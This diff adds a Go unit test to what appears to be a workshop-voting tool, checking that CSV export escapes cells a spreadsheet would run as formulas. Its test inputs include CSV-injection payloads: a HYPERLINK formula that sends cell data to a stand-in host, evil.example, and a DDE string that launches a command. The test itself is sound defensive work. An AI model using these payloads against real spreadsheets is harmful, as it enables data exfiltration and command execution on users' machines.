@@ -468,3 +468,42 @@ func TestSummaryFlagsPhonesBeyondTheHeadcount(t *testing.T) {
 	text, _, _ := pdfText(t, func(b *bytes.Buffer) error { return Summary(b, sess, Options{Created: created}) })
 	expectAll(t, "summary", text, []string{"3 phone ballots but 2 people — phones not in the room, or one person on several devices."})
 }
+
+// A text that a spreadsheet would run as a formula is written with a
+// leading apostrophe, and reads back as the text it was, apostrophe first;
+// others are written as they are.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn"}
+	plan := &workshop.Plan{Title: "T", Exercises: []workshop.Exercise{{Kind: workshop.KindVote, Title: "=1+1", Minutes: 5,
+		Options: []string{formulas[0], "Plain"}, Items: []workshop.Item{{Text: formulas[1]}, {Text: formulas[2]}, {Text: formulas[3]}, {Text: formulas[4]}, {Text: formulas[5]}, {Text: "Fine - not a formula"}}}}}
+	sess, err := workshop.NewSession(plan, "@group", "", created)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := range plan.Exercises[0].Items {
+		if err := sess.Record(workshop.Event{Kind: workshop.EventTally, At: created, Item: i, Option: 0, Source: workshop.SourceRoom, Count: 1}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rows := csvRows(t, sess)
+	if len(rows) != 7 {
+		t.Fatalf("%d rows", len(rows))
+	}
+	for i, r := range rows[1:] {
+		if r[1] != "'@group" || r[3] != "'=1+1" || r[6] != "'"+formulas[0] {
+			t.Errorf("row %d: group %q, exercise %q, option %q", i+1, r[1], r[3], r[6])
+		}
+		want := "'" + plan.Exercises[0].Items[i].Text
+		if i == 5 {
+			want = "Fine - not a formula"
+		}
+		if r[5] != want {
+			t.Errorf("row %d: item %q, want %q", i+1, r[5], want)
+		}
+		for j, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %d, column %d starts a formula: %q", i+1, j+1, cell)
+			}
+		}
+	}
+}
